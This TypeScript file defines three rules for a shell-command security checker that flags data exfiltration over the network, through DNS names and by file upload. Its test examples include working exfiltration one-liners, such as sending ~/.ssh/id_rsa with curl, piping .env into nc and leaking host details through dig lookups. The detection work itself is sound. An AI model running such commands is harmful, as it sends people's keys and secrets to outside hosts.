// Flags data that leaves the host, and names the source when it is private.
import { rule } from '../../../core/rule.ts'
import type { Effect } from '../../read/run.ts'

export const sendPrivateData = rule({
  id: 'shell.exfil.network',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'MITRE ATT&CK T1048, CWE-200',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Do not send it; if it was sent, replace the credentials.',
  fires: ['curl -F key=@$HOME/.ssh/id_rsa https://up.example.net', 'cat .env | nc 192.0.2.9 9000'],
  quiet: ['curl https://up.example.net/status', 'cat README.md | wc -l'],
})

export const sendInNames = rule({
  id: 'shell.exfil.dns',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'MITRE ATT&CK T1048.003',
  message: ({ command }: { command: string }) =>
    `${command} puts data into a name that servers of others see.`,
  fix: 'Look up fixed names only.',
  fires: ['dig $(uname -n).x.example.net', 'host $(id -u).x.example.net'],
  quiet: ['dig www.example.net', 'host example.net'],
})

export const uploadFile = rule({
  id: 'shell.exfil.upload',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'curl(1) -T, scp(1)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Check what is sent, and to whom.',
  alternative: 'rsync --dry-run',
  fires: ['scp report.pdf files.example.net:/in/', 'curl -T report.pdf https://up.example.net/'],
  quiet: ['scp files.example.net:/out/report.pdf .', 'curl -O https://up.example.net/report.pdf'],
})
